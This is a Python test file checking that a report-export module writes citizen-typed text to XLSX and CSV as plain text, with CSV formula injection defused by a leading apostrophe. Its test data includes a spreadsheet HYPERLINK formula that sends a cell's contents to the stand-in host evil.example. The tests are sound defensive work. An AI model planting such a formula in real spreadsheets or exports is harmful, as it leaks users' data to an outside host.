"""Exports: what a citizen typed stays text in the curator's spreadsheet."""

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from workflows.reports.exports import Sheet, to_csv, to_xlsx

MSK = ZoneInfo("Europe/Moscow")
TRICKS = ['=HYPERLINK("http://evil.example/?"&A1,"жми")', "+7 928 000", "@SUM(1)", "-1+2"]


def test_xlsx_keeps_formula_like_texts_and_links_as_plain_text() -> None:
    rows = [[t, 1] for t in [*TRICKS, "https://example.org/яма"]]
    rows.append(["когда", datetime(2026, 11, 2, 7, 0, tzinfo=UTC)])
    book = load_workbook(io.BytesIO(to_xlsx([Sheet("Лист", ["Текст", "Число"], rows)], tz=MSK)))
    sheet = book["Лист"]
    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(TRICKS) + 1)]
    assert [c.value for c in cells] == [*TRICKS, "https://example.org/яма"]
    assert all(c.data_type == "s" and c.hyperlink is None for c in cells)
    local = datetime(2026, 11, 2, 10, 0, tzinfo=MSK).replace(tzinfo=None)
    assert sheet.cell(row=len(rows) + 1, column=2).value == local  # Moscow wall time, naive
    assert sheet.freeze_panes == "A2"


def test_csv_defuses_formula_like_texts_and_keeps_the_rest() -> None:
    rows = [[t] for t in [*TRICKS, "яма у школы", "5-й дом"]]
    text = to_csv(["Текст"], rows, tz=MSK)
    assert text.startswith("\ufeff")
    got = [r[0] for r in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]
    assert got == ["'" + t for t in TRICKS] + ["яма у школы", "5-й дом"]
